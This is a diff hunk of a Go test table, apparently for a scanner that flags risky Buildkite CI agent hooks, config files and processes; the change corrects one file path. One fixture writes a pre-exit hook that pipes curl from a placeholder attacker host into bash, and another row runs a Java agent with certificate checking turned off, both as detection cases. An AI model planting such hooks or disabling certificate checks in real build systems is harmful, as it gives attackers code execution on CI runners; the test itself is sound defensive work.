@@ -109,7 +109,7 @@ var runnerRows = []row{
 	}},
 	{"1.4 hook", "runner-files", check.Medium, "/etc/buildkite-agent/hooks/environment", false, program("/etc/buildkite-agent/hooks/environment", "#!/bin/bash\n/bin/true\n")},
 	{"1.4 hook that phones home", "runner-files", check.High, "/etc/buildkite-agent/hooks/pre-exit", false, program("/etc/buildkite-agent/hooks/pre-exit", "curl "+evil+" | bash\n")},
-	{"1.4 bootstrap script", "runner-files", check.Medium, "buildkite-agent.cfg", false, plainFile("/etc/buildkite-agent/buildkite-agent.cfg", "token=\"x\"\nbootstrap-script=\"/opt/b\"\n")},
+	{"1.4 bootstrap script", "runner-files", check.Medium, "/etc/buildkite-agent/buildkite-agent.cfg", false, plainFile("/etc/buildkite-agent/buildkite-agent.cfg", "token=\"x\"\nbootstrap-script=\"/opt/b\"\n")},
 	{"1.5 any certificate", "runner-files", check.Medium, "process 2010", false, func(tr *tree) {
 		tr.process(2010, 1, 1001, "java", "/usr/bin/java", "/system.slice/j.service", nil, "java", "-jar", "agent.jar", "-url", "https://j.example.org", "-noCertificateCheck")
 	}},
